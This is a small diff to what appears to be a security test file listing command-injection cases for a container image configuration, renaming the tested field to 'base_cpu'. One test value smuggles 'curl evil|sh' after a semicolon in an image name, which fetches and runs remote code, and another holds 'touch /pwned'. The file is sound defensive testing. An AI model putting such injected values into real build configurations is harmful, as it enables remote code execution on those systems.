@@ -203,7 +203,7 @@ INJECTIONS: dict[str, tuple[str, Callable[[dict[str, object]], None]]] = {
     ),
     "image_base_semicolon": (
         "curl evil",
-        lambda s: s.update(image={"base": "tensorflow/serving:2.18.0;curl evil|sh"}),
+        lambda s: s.update(image={"base_cpu": "tensorflow/serving:2.18.0;curl evil|sh"}),
     ),
     "extra_package_and_and": (
         "touch /pwned",
